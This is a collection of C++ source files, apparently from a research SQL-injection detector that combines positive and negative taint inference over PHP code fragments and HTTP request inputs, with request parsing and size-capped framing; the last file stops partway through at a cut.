// that stops attackers from assembling critical tokens out of fragment
// shards.
//
// String-literal delimiter quotes are critical units too (the threat model
// counts delimiters): each opening and closing quote of a string literal
// must lie inside some fragment occurrence. Application-built strings
// satisfy this naturally (the quotes live in the query template fragments,
// e.g. "... name = '" and "' LIMIT 1"); an attacker's breakout quote has no
// fragment to come from and is flagged.
//
// The analysis itself lives in pti/ruleset.h as pure functions over an
// immutable Ruleset snapshot. PtiAnalyzer is the convenience owner of one
// snapshot plus the naive path's MRU ordering state — single-threaded use
// (the daemon process, the benches, tests). Concurrent callers should hold
// a `std::shared_ptr<const Ruleset>` directly and call the free functions.
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <string_view>
#include <vector>

#include "phpsrc/fragments.h"
#include "pti/ruleset.h"
#include "sqlparse/token.h"

namespace joza::pti {

class PtiAnalyzer {
 public:
  explicit PtiAnalyzer(php::FragmentSet fragments, PtiConfig config = {});

  const php::FragmentSet& fragments() const { return ruleset_->fragments(); }
  const PtiConfig& config() const { return ruleset_->config(); }
  std::uint64_t version() const { return ruleset_->version(); }
  const std::shared_ptr<const Ruleset>& ruleset() const { return ruleset_; }

  // Adds fragments discovered after installation (plugin update) and
  // replaces the snapshot — the preprocessing component re-invokes the
  // installer when new or modified files appear (Section IV-B).
  void AddFragments(const std::vector<php::SourceFile>& files);

  // Same, from raw fragment texts, stamping the successor snapshot with an
  // externally-assigned version (the daemon wire protocol names the target
  // version in each update frame).
  void AddRawFragments(const std::vector<std::string>& texts,
                       std::uint64_t new_version);

  // Analyzes one query. `tokens` must be the lex of `query`.
  PtiResult Analyze(std::string_view query,
                    const std::vector<sql::Token>& tokens) const;

  // Convenience: lexes the query itself.
  PtiResult Analyze(std::string_view query) const;

  // The two matching strategies, individually addressable so tests can
  // check them against each other (they must agree on every verdict).
  PtiResult AnalyzeAho(std::string_view query,
                       const std::vector<sql::Token>& tokens) const;
  PtiResult AnalyzeNaive(std::string_view query,
                         const std::vector<sql::Token>& tokens) const;

 private:
  void ResetMru();

  std::shared_ptr<const Ruleset> ruleset_;
  // MRU ordering of fragment indexes for the naive path; mutated during
  // analysis (performance state only, results are order-independent). This
  // is what makes PtiAnalyzer single-threaded — the snapshot itself is
  // freely shareable.
  mutable std::vector<std::size_t> mru_;
};

}  // namespace joza::pti
