#include "pti/ruleset.h"

#include <algorithm>
#include <utility>

#include "sqlparse/lexer.h"

namespace joza::pti {

Ruleset::Ruleset(php::FragmentSet fragments, PtiConfig config,
                 std::uint64_t version)
    : fragments_(std::move(fragments)), config_(config), version_(version) {
  const auto& frags = fragments_.fragments();
  for (std::size_t i = 0; i < frags.size(); ++i) {
    automaton_.Add(frags[i].text, static_cast<std::int32_t>(i));
  }
  automaton_.Build();
  // Snapshot-time planning: the scan strategy and the vocabulary's shape
  // statistics are fixed here, once per published generation — the
  // analyze hot path only reads the precomputed plan.
  std::vector<std::size_t> pattern_lengths;
  pattern_lengths.reserve(frags.size());
  for (const php::Fragment& f : frags) {
    pattern_lengths.push_back(f.text.size());
  }
  plan_ = costmodel::Planner(config_.cost_model)
              .PlanRuleset(pattern_lengths, config_.use_aho_corasick);
}

std::shared_ptr<const Ruleset> Ruleset::Build(php::FragmentSet fragments,
                                              PtiConfig config,
                                              std::uint64_t version) {
  return std::make_shared<const Ruleset>(std::move(fragments), config,
                                         version);
}

std::shared_ptr<const Ruleset> Ruleset::WithSources(
    const std::vector<php::SourceFile>& files) const {
  php::FragmentSet next = fragments_;
  for (const auto& f : files) next.AddSource(f);
  return Build(std::move(next), config_, version_ + 1);
}

std::shared_ptr<const Ruleset> Ruleset::WithRawFragments(
    const std::vector<std::string>& texts, std::uint64_t new_version) const {
  php::FragmentSet next = fragments_;
  for (const auto& t : texts) next.AddRaw(t);
  return Build(std::move(next), config_, new_version);
}

namespace {

// Marks units covered by `span`; returns how many were newly covered.
std::size_t MarkCovered(const ByteSpan& span,
                        const std::vector<sql::CriticalUnit>& units,
                        std::vector<bool>& covered) {
  std::size_t newly = 0;
  for (std::size_t i = 0; i < units.size(); ++i) {
    if (!covered[i] && span.contains(units[i].span)) {
      covered[i] = true;
      ++newly;
    }
  }
  return newly;
}

void FillVerdict(PtiResult& result,
                 const std::vector<sql::CriticalUnit>& units,
                 const std::vector<bool>& covered) {
  for (std::size_t i = 0; i < units.size(); ++i) {
    if (!covered[i]) {
      result.attack_detected = true;
      result.untrusted_critical_tokens.push_back(units[i].token);
    }
  }
}

}  // namespace

PtiResult AnalyzeAho(const Ruleset& rs, std::string_view query,
                     const std::vector<sql::CriticalUnit>& units) {
  PtiResult result;
  result.ruleset_version = rs.version();
  std::vector<bool> covered(units.size(), false);

  rs.automaton().Scan(query, [&](const match::AhoCorasick::Hit& hit) {
    ++result.hits;
    ByteSpan span{hit.begin, hit.begin + hit.length};
    MarkCovered(span, units, covered);
    result.positive_spans.push_back(span);
  });
  result.fragments_scanned = rs.fragments().size();  // one automaton pass
  FillVerdict(result, units, covered);
  return result;
}

PtiResult AnalyzeNaive(const Ruleset& rs, std::string_view query,
                       const std::vector<sql::CriticalUnit>& units,
                       std::vector<std::size_t>* mru) {
  PtiResult result;
  result.ruleset_version = rs.version();
  std::vector<bool> covered(units.size(), false);
  std::size_t remaining = units.size();

  const auto& frags = rs.fragments().fragments();
  const PtiConfig& config = rs.config();

  // Scan order: the caller's MRU permutation when supplied (single-owner
  // performance state, results are order-independent), vocabulary order
  // otherwise — the lock-free stateless mode used by the serving hot path.
  std::vector<std::size_t> order;
  if (mru != nullptr && mru->size() == frags.size()) {
    order = *mru;
  } else {
    order.resize(frags.size());
    for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
  }
  std::vector<std::size_t> matched_fragments;

  for (std::size_t oi = 0; oi < order.size(); ++oi) {
    const std::size_t fi = order[oi];
    const std::string& pattern = frags[fi].text;
    ++result.fragments_scanned;
    bool fragment_matched = false;
    std::size_t pos = query.find(pattern);
    while (pos != std::string_view::npos) {
      ++result.hits;
      fragment_matched = true;
      ByteSpan span{pos, pos + pattern.size()};
      result.positive_spans.push_back(span);
      remaining -= MarkCovered(span, units, covered);
      pos = query.find(pattern, pos + 1);
    }
    if (fragment_matched) matched_fragments.push_back(fi);
    // Paper optimization: with the critical set known up front, stop as
    // soon as every critical token is trusted. Benign queries exit after a
    // handful of fragments; attack queries scan the whole set.
    if (config.parse_first && remaining == 0) break;
  }

  // MRU update: move fragments that matched to the front of the ordering.
  if (mru != nullptr && config.mru_size > 0 && !matched_fragments.empty()) {
    std::vector<std::size_t> next;
    next.reserve(order.size());
    const std::size_t take =
        std::min(matched_fragments.size(), config.mru_size);
    for (std::size_t i = 0; i < take; ++i) {
      next.push_back(matched_fragments[i]);
    }
    for (std::size_t fi : order) {
      if (std::find(next.begin(),
                    next.begin() + static_cast<std::ptrdiff_t>(take),
                    fi) == next.begin() + static_cast<std::ptrdiff_t>(take)) {
        next.push_back(fi);
      }
    }
    *mru = std::move(next);
  }

  FillVerdict(result, units, covered);
  return result;
}

PtiResult AnalyzeUnits(const Ruleset& rs, std::string_view query,
                       const std::vector<sql::CriticalUnit>& units) {
  // Strategy chosen once at snapshot build (Ruleset::plan()); this is a
  // table lookup, never per-query arithmetic.
  return rs.plan().use_automaton
             ? AnalyzeAho(rs, query, units)
             : AnalyzeNaive(rs, query, units, /*mru=*/nullptr);
}

PtiResult Analyze(const Ruleset& rs, std::string_view query,
                  const std::vector<sql::Token>& tokens) {
  return AnalyzeUnits(
      rs, query, sql::BuildCriticalUnits(tokens, rs.config().strict_tokens));
}

}  // namespace joza::pti
