// Immutable PTI ruleset snapshots.
//
// A Ruleset captures everything PTI needs to judge one query — the fragment
// vocabulary (Section IV-A), the prebuilt Aho–Corasick automaton over it,
// and the analysis configuration — as one immutable object published behind
// `std::shared_ptr<const Ruleset>`. Fragment updates (Section IV-B) never
// mutate a live ruleset: they Build() a successor with a higher version and
// atomically swap the pointer (RCU-style), so the analyze path is lock-free
// — readers pin a snapshot with one atomic load and analyze against it
// while writers rebuild off to the side.
//
// The version is the update-log position the snapshot corresponds to; it
// travels with every verdict and over the daemon wire so distributed
// replicas (the PTI daemon pool) can prove which vocabulary they used.
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "costmodel/planner.h"
#include "match/aho_corasick.h"
#include "phpsrc/fragments.h"
#include "sqlparse/critical.h"
#include "sqlparse/token.h"
#include "util/span.h"

namespace joza::pti {

struct PtiConfig {
  // Allows the multi-pattern automaton scan; false forces the paper's
  // original per-fragment scan (ablated in bench_ablation_match). The
  // actual strategy is chosen once at snapshot build by the cost-model
  // planner and recorded in Ruleset::plan().
  bool use_aho_corasick = true;

  // Measured cost model consulted at snapshot build (see Ruleset::plan());
  // null falls back to the built-in defaults. Shared, never mutated.
  std::shared_ptr<const costmodel::CostModel> cost_model;

  // Paper optimization #2: parse the query for critical tokens first, then
  // match only until every critical token is covered (naive path only —
  // benign queries finish after a few fragments, malicious ones scan all).
  bool parse_first = true;

  // Paper optimization #1: most-recently-used fragment ordering exploiting
  // the application's SQL working set (naive path only).
  std::size_t mru_size = 64;

  // Strict Ray-Ligatti-style policy (Section II): identifiers must come
  // from fragments too, so user-supplied field/table names are rejected.
  // Breaks advanced-search applications; off by default like the paper.
  bool strict_tokens = false;
};

struct PtiResult {
  bool attack_detected = false;
  // Fragment occurrences found in the query (positive taint markings).
  std::vector<ByteSpan> positive_spans;
  // Critical tokens not covered by any single fragment (the evidence).
  std::vector<sql::Token> untrusted_critical_tokens;
  // Version of the ruleset snapshot this verdict was computed against.
  std::uint64_t ruleset_version = 0;
  // Diagnostics for the perf benches.
  std::size_t fragments_scanned = 0;
  std::size_t hits = 0;
};

class Ruleset {
 public:
  // Builds the automaton eagerly; after construction the object is never
  // mutated (every accessor is const, all analysis entry points take
  // `const Ruleset&`).
  Ruleset(php::FragmentSet fragments, PtiConfig config,
          std::uint64_t version);

  const php::FragmentSet& fragments() const { return fragments_; }
  const match::AhoCorasick& automaton() const { return automaton_; }
  const PtiConfig& config() const { return config_; }
  std::uint64_t version() const { return version_; }

  // Snapshot-time execution plan: pattern-shape statistics and the chosen
  // scan strategy, precomputed once here so the per-check hot path does a
  // table lookup instead of re-deriving the decision per query.
  const costmodel::RulesetPlan& plan() const { return plan_; }

  static std::shared_ptr<const Ruleset> Build(php::FragmentSet fragments,
                                              PtiConfig config = {},
                                              std::uint64_t version = 0);

  // Successor snapshot with `files`' fragments folded in, version() + 1.
  // `this` is untouched — in-flight analyses keep their pinned snapshot.
  std::shared_ptr<const Ruleset> WithSources(
      const std::vector<php::SourceFile>& files) const;

  // Successor snapshot with raw fragment texts folded in, stamped with an
  // externally-assigned version (the daemon applies updates at the version
  // the update frame names, so client and daemon agree by construction).
  std::shared_ptr<const Ruleset> WithRawFragments(
      const std::vector<std::string>& texts, std::uint64_t new_version) const;

 private:
  php::FragmentSet fragments_;
  PtiConfig config_;
  std::uint64_t version_ = 0;
  match::AhoCorasick automaton_;
  costmodel::RulesetPlan plan_;
};

// Pure analysis over an immutable ruleset: no locks, no mutable state, safe
// from any number of threads. `units` must be
// sql::BuildCriticalUnits(tokens, rs.config().strict_tokens) for the lex of
// `query` — computed once per request and shared across every analyzer.
PtiResult AnalyzeAho(const Ruleset& rs, std::string_view query,
                     const std::vector<sql::CriticalUnit>& units);

// The paper's original per-fragment scan. `mru` is optional caller-owned
// ordering state (performance only — results are order-independent);
// pass nullptr for a stateless, lock-free scan in vocabulary order.
PtiResult AnalyzeNaive(const Ruleset& rs, std::string_view query,
                       const std::vector<sql::CriticalUnit>& units,
                       std::vector<std::size_t>* mru);

// Dispatches on the snapshot-time plan, rs.plan().use_automaton
// (stateless: the naive path runs without MRU ordering). Builds the
// critical units from `tokens`, which must be the lex of `query`.
PtiResult Analyze(const Ruleset& rs, std::string_view query,
                  const std::vector<sql::Token>& tokens);

// Same, over prebuilt critical units (the single-pass hot path).
PtiResult AnalyzeUnits(const Ruleset& rs, std::string_view query,
                       const std::vector<sql::CriticalUnit>& units);

}  // namespace joza::pti
