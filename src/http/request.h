// HTTP request model and input-source enumeration.
//
// NTI must see every input the application can see: GET and POST
// parameters, cookies, and request headers (Section IV-D). The preprocessor
// snapshots these *before* the application mutates them.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "util/status.h"

namespace joza::http {

enum class InputKind { kGet, kPost, kCookie, kHeader };

const char* InputKindName(InputKind k);

struct Input {
  InputKind kind = InputKind::kGet;
  std::string name;
  std::string value;

  Input() = default;
  Input(InputKind k, std::string n, std::string v)
      : kind(k), name(std::move(n)), value(std::move(v)) {}
  // Copies are instrumented (InputCopiesForTest): the analysis hot path is
  // contractually zero-copy, so every deep copy of a stored input must be
  // deliberate (compatibility shims like AllInputs, taint-marking capture).
  Input(const Input& other);
  Input& operator=(const Input& other);
  Input(Input&&) noexcept = default;
  Input& operator=(Input&&) noexcept = default;
};

// Borrowed, zero-copy view of one stored input. Valid only while the
// owning Request (or Input container) is alive and unmodified — exactly
// the lifetime of one Check, which is why the analysis layers take views.
struct InputView {
  InputKind kind = InputKind::kGet;
  std::string_view name;
  std::string_view value;
};

inline InputView ViewOf(const Input& input) {
  return InputView{input.kind, input.name, input.value};
}

// Borrowed views over a whole Input vector (no string copies).
std::vector<InputView> ViewsOf(const std::vector<Input>& inputs);

// Process-wide count of Input deep copies (relaxed, monotonically
// increasing). Test instrumentation for the zero-copy analysis contract:
// checking a query must never copy the request's inputs.
std::uint64_t InputCopiesForTest();

struct Request {
  std::string method = "GET";
  std::string path = "/";
  std::vector<Input> get_params;
  std::vector<Input> post_params;
  std::vector<Input> cookies;
  std::vector<Input> headers;

  // Enumerates all inputs in NTI analysis order (GET, POST, cookies,
  // headers). Deep-copies every input; kept for compatibility only — the
  // analysis path uses InputViews()/ForEachInput instead.
  std::vector<Input> AllInputs() const;

  // Zero-copy enumeration in the same NTI analysis order. The views borrow
  // from this request and stay valid while it is alive and unmodified.
  template <typename Fn>
  void ForEachInput(Fn&& fn) const {
    for (const Input& i : get_params) fn(ViewOf(i));
    for (const Input& i : post_params) fn(ViewOf(i));
    for (const Input& i : cookies) fn(ViewOf(i));
    for (const Input& i : headers) fn(ViewOf(i));
  }

  // Zero-copy snapshot of all inputs (vector of borrowed views).
  std::vector<InputView> InputViews() const;

  // First value for a GET-or-POST parameter, or empty string.
  std::string_view Param(std::string_view name) const;
  std::string_view Cookie(std::string_view name) const;

  bool HasParam(std::string_view name) const;

  // Convenience builders used by the workload generators.
  static Request Get(std::string path,
                     std::vector<std::pair<std::string, std::string>> params);
  static Request Post(std::string path,
                      std::vector<std::pair<std::string, std::string>> params);

  Request& WithCookie(std::string name, std::string value);
  Request& WithHeader(std::string name, std::string value);
};

struct Response {
  int status = 200;
  std::string body;
  // Virtual processing time in milliseconds; double-blind (timing) attacks
  // observe this channel. SLEEP() in the database engine adds to it.
  double virtual_time_ms = 0.0;
};

// Parses "a=1&b=x%20y" into decoded name/value pairs with the given kind.
std::vector<Input> ParseQueryString(std::string_view qs, InputKind kind);

// Parses a raw HTTP/1.1 request (request line, headers, optional
// x-www-form-urlencoded body) into a Request. Cookie headers are split into
// individual cookies.
StatusOr<Request> ParseRawRequest(std::string_view raw);

}  // namespace joza::http
