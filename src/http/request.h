// HTTP request model and input-source enumeration.
//
// NTI must see every input the application can see: GET and POST
// parameters, cookies, and request headers (Section IV-D). The preprocessor
// snapshots these *before* the application mutates them.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "util/status.h"

namespace joza::http {

enum class InputKind { kGet, kPost, kCookie, kHeader };

const char* InputKindName(InputKind k);

struct Input {
  InputKind kind;
  std::string name;
  std::string value;
};

struct Request {
  std::string method = "GET";
  std::string path = "/";
  std::vector<Input> get_params;
  std::vector<Input> post_params;
  std::vector<Input> cookies;
  std::vector<Input> headers;

  // Enumerates all inputs in NTI analysis order (GET, POST, cookies,
  // headers).
  std::vector<Input> AllInputs() const;

  // First value for a GET-or-POST parameter, or empty string.
  std::string_view Param(std::string_view name) const;
  std::string_view Cookie(std::string_view name) const;

  bool HasParam(std::string_view name) const;

  // Convenience builders used by the workload generators.
  static Request Get(std::string path,
                     std::vector<std::pair<std::string, std::string>> params);
  static Request Post(std::string path,
                      std::vector<std::pair<std::string, std::string>> params);

  Request& WithCookie(std::string name, std::string value);
  Request& WithHeader(std::string name, std::string value);
};

struct Response {
  int status = 200;
  std::string body;
  // Virtual processing time in milliseconds; double-blind (timing) attacks
  // observe this channel. SLEEP() in the database engine adds to it.
  double virtual_time_ms = 0.0;
};

// Parses "a=1&b=x%20y" into decoded name/value pairs with the given kind.
std::vector<Input> ParseQueryString(std::string_view qs, InputKind kind);

// Parses a raw HTTP/1.1 request (request line, headers, optional
// x-www-form-urlencoded body) into a Request. Cookie headers are split into
// individual cookies.
StatusOr<Request> ParseRawRequest(std::string_view raw);

}  // namespace joza::http
