// Incremental HTTP/1.1 request framing for non-blocking sockets.
//
// The event-driven gateway reads whatever bytes the kernel has and must
// resume mid-request on the next readiness edge; this parser owns that
// state. Feed() appends raw bytes as they arrive (possibly one at a time,
// possibly several pipelined requests in one segment) and Next() extracts
// complete requests in order. Framing semantics are identical to the
// blocking reader the thread-pool gateway uses: a request is its headers up
// to the "\r\n\r\n" terminator plus Content-Length body bytes, and two
// hostile-client guards bound the buffer — an unterminated header block and
// a declared body may not exceed max_request_bytes (-> 413 upstream).
#pragma once

#include <cstddef>
#include <string>
#include <string_view>

namespace joza::http {

class RequestParser {
 public:
  explicit RequestParser(std::size_t max_request_bytes = 1u << 20)
      : max_request_bytes_(max_request_bytes) {}

  // Appends newly received bytes. Returns false iff the size cap tripped
  // (the connection should be answered 413 and closed); once overflowed
  // the parser stays in that state.
  bool Feed(std::string_view bytes);

  // Extracts the next complete request (headers + body, raw bytes) if one
  // is buffered. Call repeatedly: one Feed() may complete several
  // pipelined requests.
  bool Next(std::string* raw);

  bool overflowed() const { return overflowed_; }

  // A started-but-incomplete request is buffered: the slowloris read
  // deadline should be armed (mirrors the blocking reader, which arms at
  // the first byte of a request, never during idle keep-alive waits).
  bool has_partial() const { return !overflowed_ && !buffer_.empty(); }

  std::size_t buffered_bytes() const { return buffer_.size(); }

 private:
  // Locates the front request's end (header terminator + declared body).
  void Scan();

  std::string buffer_;
  std::size_t header_end_ = npos_;  // offset of "\r\n\r\n" in buffer_
  std::size_t total_ = npos_;      // full byte length of the front request
  std::size_t scan_from_ = 0;      // resume point for the terminator search
  bool overflowed_ = false;
  std::size_t max_request_bytes_;

  static constexpr std::size_t npos_ = static_cast<std::size_t>(-1);
};

}  // namespace joza::http
