#include "http/request_parser.h"

#include <cstdlib>

#include "util/strings.h"

namespace joza::http {

bool RequestParser::Feed(std::string_view bytes) {
  if (overflowed_) return false;
  buffer_.append(bytes.data(), bytes.size());
  Scan();
  return !overflowed_;
}

void RequestParser::Scan() {
  if (overflowed_ || total_ != npos_) return;
  if (header_end_ == npos_) {
    // Resume the terminator search just before the previously scanned tail
    // so a "\r\n\r\n" split across feeds is still found.
    const std::size_t from = scan_from_ > 3 ? scan_from_ - 3 : 0;
    header_end_ = buffer_.find("\r\n\r\n", from);
    scan_from_ = buffer_.size();
    if (header_end_ == npos_) {
      // Same bound as the blocking reader: an unterminated header block
      // larger than the whole-request cap is hostile.
      if (buffer_.size() > max_request_bytes_) overflowed_ = true;
      return;
    }
  }
  std::size_t content_length = 0;
  const std::size_t cl = FindIgnoreCase(
      std::string_view(buffer_).substr(0, header_end_), "content-length:");
  if (cl != std::string_view::npos) {
    content_length = static_cast<std::size_t>(
        std::strtoul(buffer_.c_str() + cl + 15, nullptr, 10));
    if (content_length > max_request_bytes_ ||
        header_end_ + 4 + content_length > max_request_bytes_) {
      overflowed_ = true;
      return;
    }
  }
  total_ = header_end_ + 4 + content_length;
}

bool RequestParser::Next(std::string* raw) {
  if (overflowed_) return false;
  Scan();
  if (total_ == npos_ || buffer_.size() < total_) return false;
  raw->assign(buffer_, 0, total_);
  buffer_.erase(0, total_);
  header_end_ = npos_;
  total_ = npos_;
  scan_from_ = 0;
  Scan();  // pipelined leftovers: frame the next request immediately
  return true;
}

}  // namespace joza::http
