#include "http/request.h"

#include <atomic>

#include "util/codec.h"
#include "util/strings.h"

namespace joza::http {

namespace {

// Test-only accounting for the zero-copy analysis contract, mirroring
// sql::LexCallsForTest: a relaxed increment per deep copy is free next to
// the string allocations the copy itself performs.
std::atomic<std::uint64_t> g_input_copies{0};

// Zero-copy lookup helper shared by Param/Cookie/HasParam.
const Input* FindIn(const std::vector<Input>& list, std::string_view name) {
  for (const Input& i : list) {
    if (i.name == name) return &i;
  }
  return nullptr;
}

}  // namespace

std::uint64_t InputCopiesForTest() {
  return g_input_copies.load(std::memory_order_relaxed);
}

Input::Input(const Input& other)
    : kind(other.kind), name(other.name), value(other.value) {
  g_input_copies.fetch_add(1, std::memory_order_relaxed);
}

Input& Input::operator=(const Input& other) {
  kind = other.kind;
  name = other.name;
  value = other.value;
  g_input_copies.fetch_add(1, std::memory_order_relaxed);
  return *this;
}

const char* InputKindName(InputKind k) {
  switch (k) {
    case InputKind::kGet: return "GET";
    case InputKind::kPost: return "POST";
    case InputKind::kCookie: return "COOKIE";
    case InputKind::kHeader: return "HEADER";
  }
  return "?";
}

std::vector<Input> Request::AllInputs() const {
  std::vector<Input> all;
  all.reserve(get_params.size() + post_params.size() + cookies.size() +
              headers.size());
  all.insert(all.end(), get_params.begin(), get_params.end());
  all.insert(all.end(), post_params.begin(), post_params.end());
  all.insert(all.end(), cookies.begin(), cookies.end());
  all.insert(all.end(), headers.begin(), headers.end());
  return all;
}

std::vector<InputView> ViewsOf(const std::vector<Input>& inputs) {
  std::vector<InputView> views;
  views.reserve(inputs.size());
  for (const Input& i : inputs) views.push_back(ViewOf(i));
  return views;
}

std::vector<InputView> Request::InputViews() const {
  std::vector<InputView> views;
  views.reserve(get_params.size() + post_params.size() + cookies.size() +
                headers.size());
  ForEachInput([&views](const InputView& v) { views.push_back(v); });
  return views;
}

std::string_view Request::Param(std::string_view name) const {
  if (const Input* i = FindIn(get_params, name)) return i->value;
  if (const Input* i = FindIn(post_params, name)) return i->value;
  return {};
}

std::string_view Request::Cookie(std::string_view name) const {
  if (const Input* i = FindIn(cookies, name)) return i->value;
  return {};
}

bool Request::HasParam(std::string_view name) const {
  return FindIn(get_params, name) != nullptr ||
         FindIn(post_params, name) != nullptr;
}

Request Request::Get(
    std::string path,
    std::vector<std::pair<std::string, std::string>> params) {
  Request r;
  r.method = "GET";
  r.path = std::move(path);
  for (auto& [k, v] : params) {
    r.get_params.push_back({InputKind::kGet, std::move(k), std::move(v)});
  }
  return r;
}

Request Request::Post(
    std::string path,
    std::vector<std::pair<std::string, std::string>> params) {
  Request r;
  r.method = "POST";
  r.path = std::move(path);
  for (auto& [k, v] : params) {
    r.post_params.push_back({InputKind::kPost, std::move(k), std::move(v)});
  }
  return r;
}

Request& Request::WithCookie(std::string name, std::string value) {
  cookies.push_back({InputKind::kCookie, std::move(name), std::move(value)});
  return *this;
}

Request& Request::WithHeader(std::string name, std::string value) {
  headers.push_back({InputKind::kHeader, std::move(name), std::move(value)});
  return *this;
}

std::vector<Input> ParseQueryString(std::string_view qs, InputKind kind) {
  std::vector<Input> out;
  if (qs.empty()) return out;
  for (const std::string& pair : Split(qs, '&')) {
    if (pair.empty()) continue;
    std::size_t eq = pair.find('=');
    Input input;
    input.kind = kind;
    if (eq == std::string::npos) {
      input.name = UrlDecode(pair);
    } else {
      input.name = UrlDecode(std::string_view(pair).substr(0, eq));
      input.value = UrlDecode(std::string_view(pair).substr(eq + 1));
    }
    out.push_back(std::move(input));
  }
  return out;
}

StatusOr<Request> ParseRawRequest(std::string_view raw) {
  std::size_t line_end = raw.find("\r\n");
  if (line_end == std::string_view::npos) line_end = raw.find('\n');
  if (line_end == std::string_view::npos) {
    return Status::ParseError("missing request line terminator");
  }
  std::string_view request_line = raw.substr(0, line_end);
  auto parts = Split(request_line, ' ');
  if (parts.size() < 2) {
    return Status::ParseError("malformed request line");
  }
  Request req;
  req.method = ToUpper(parts[0]);

  std::string_view target = parts[1];
  std::size_t qpos = target.find('?');
  if (qpos == std::string_view::npos) {
    req.path = std::string(target);
  } else {
    req.path = std::string(target.substr(0, qpos));
    req.get_params = ParseQueryString(target.substr(qpos + 1), InputKind::kGet);
  }

  // Headers until blank line.
  std::size_t pos = line_end + (raw[line_end] == '\r' ? 2 : 1);
  while (pos < raw.size()) {
    std::size_t end = raw.find("\r\n", pos);
    std::size_t skip = 2;
    if (end == std::string_view::npos) {
      end = raw.find('\n', pos);
      skip = 1;
      if (end == std::string_view::npos) end = raw.size();
    }
    std::string_view line = raw.substr(pos, end - pos);
    pos = end + (end < raw.size() ? skip : 0);
    if (line.empty()) break;  // end of headers
    std::size_t colon = line.find(':');
    if (colon == std::string_view::npos) {
      return Status::ParseError("malformed header line");
    }
    std::string name = ToLower(Trim(line.substr(0, colon)));
    std::string value(Trim(line.substr(colon + 1)));
    if (name == "cookie") {
      for (const std::string& c : Split(value, ';')) {
        std::string_view cv = Trim(c);
        std::size_t eq = cv.find('=');
        if (eq == std::string_view::npos) continue;
        req.cookies.push_back({InputKind::kCookie,
                               std::string(cv.substr(0, eq)),
                               std::string(cv.substr(eq + 1))});
      }
    } else {
      req.headers.push_back(
          {InputKind::kHeader, std::move(name), std::move(value)});
    }
  }

  // Body: form-encoded POST parameters.
  if (pos < raw.size() && req.method == "POST") {
    req.post_params = ParseQueryString(raw.substr(pos), InputKind::kPost);
  }
  return req;
}

}  // namespace joza::http
