#include "nti/batch.h"

namespace joza::nti {

namespace {

constexpr std::size_t kNpos = std::string_view::npos;

thread_local BatchMatchContext* g_current = nullptr;

}  // namespace

BatchMatchContext* BatchMatchContext::Current() { return g_current; }

void BatchMatchContext::Register(const http::Request& request) {
  request.ForEachInput([this](const http::InputView& input) {
    if (input.value.empty()) return;
    if (!ids_.emplace(input.value, patterns_.size()).second) return;
    patterns_.push_back(input.value);
    if (built_) {
      // A pattern arrived after a scan: the automaton and every cached
      // scan are for the old pattern set. Rebuild lazily on next Lookup.
      built_ = false;
      ac_ = match::AhoCorasick();
      first_hits_.clear();
    }
  });
}

void BatchMatchContext::EnsureBuilt() {
  if (built_) return;
  for (std::size_t id = 0; id < patterns_.size(); ++id) {
    ac_.Add(patterns_[id], static_cast<std::int32_t>(id));
  }
  ac_.Build();
  built_ = true;
}

bool BatchMatchContext::Lookup(std::string_view query, std::string_view value,
                               std::size_t* pos) {
  const auto id_it = ids_.find(value);
  if (id_it == ids_.end()) return false;
  EnsureBuilt();
  auto [hit_it, inserted] = first_hits_.try_emplace(std::string(query));
  if (inserted) {
    std::vector<std::size_t>& first_hit = hit_it->second;
    first_hit.assign(patterns_.size(), kNpos);
    ++scans_;
    ac_.Scan(query, [&first_hit](const match::AhoCorasick::Hit& hit) {
      std::size_t& slot = first_hit[static_cast<std::size_t>(hit.pattern_id)];
      if (slot == kNpos) slot = hit.begin;
    });
  } else {
    ++reuses_;
  }
  *pos = hit_it->second[id_it->second];
  return true;
}

ScopedBatchMatch::ScopedBatchMatch() : previous_(g_current) {
  g_current = &context_;
}

ScopedBatchMatch::~ScopedBatchMatch() { g_current = previous_; }

}  // namespace joza::nti
