// Negative Taint Inference (Section III-A).
//
// NTI correlates every application input with the intercepted query using
// approximate substring matching. Query spans whose difference ratio
// (edit distance ÷ matched-span length) falls below the threshold are
// marked negatively tainted (untrusted). An attack is reported when one
// input's tainted span fully covers at least one whole critical SQL token.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "http/request.h"
#include "sqlparse/token.h"
#include "util/span.h"

namespace joza::nti {

struct NtiConfig {
  // Maximum difference ratio that still counts as a match. The paper uses
  // 20% in its worked example (Figure 2C) and shows no fixed value is
  // attack-proof — the evasion benches sweep this.
  double threshold = 0.20;

  // Inputs shorter than this never produce taint markings: very short
  // inputs (single letters) would mark ubiquitous substrings and flood the
  // analysis with false positives (Section III-A).
  std::size_t min_input_length = 3;

  // Optimization tier: prune the Sellers DP as soon as no substring can
  // match within the threshold (bound = ceil(threshold * |input| * 2)).
  bool bounded_search = true;

  // Exact-substring fast path before the DP (std::string::find).
  bool exact_fast_path = true;

  // Strict Ray-Ligatti-style policy (Section II): identifiers are critical
  // too, so user-supplied field/table names are treated as attacks. Breaks
  // applications with advanced-search features; off by default, matching
  // the paper's pragmatic stance.
  bool strict_tokens = false;
};

struct TaintMarking {
  ByteSpan span;              // tainted query byte range
  std::string input_name;    // which input produced it
  http::InputKind input_kind;
  double ratio = 0.0;
  std::size_t distance = 0;
};

struct NtiResult {
  bool attack_detected = false;
  std::vector<TaintMarking> markings;
  // Critical tokens covered by a single input's marking (the evidence).
  std::vector<sql::Token> tainted_critical_tokens;
  // Diagnostics for the perf benches.
  std::size_t inputs_considered = 0;
  std::size_t inputs_skipped = 0;
  std::size_t dp_runs = 0;
};

class NtiAnalyzer {
 public:
  explicit NtiAnalyzer(NtiConfig config = {}) : config_(config) {}

  const NtiConfig& config() const { return config_; }

  // Analyzes one query against the request's stored inputs. `tokens` must
  // be the lex of `query` (shared with PTI per Section IV-D: "reuses the
  // critical tokens and keywords previously obtained").
  NtiResult Analyze(std::string_view query,
                    const std::vector<sql::Token>& tokens,
                    const std::vector<http::Input>& inputs) const;

  // Convenience: lexes the query itself.
  NtiResult Analyze(std::string_view query,
                    const std::vector<http::Input>& inputs) const;

  // The single-pass hot path: `critical` must be
  // sql::CriticalTokens(tokens, config().strict_tokens) for the lex of
  // `query` — computed once per request and shared, never re-derived here.
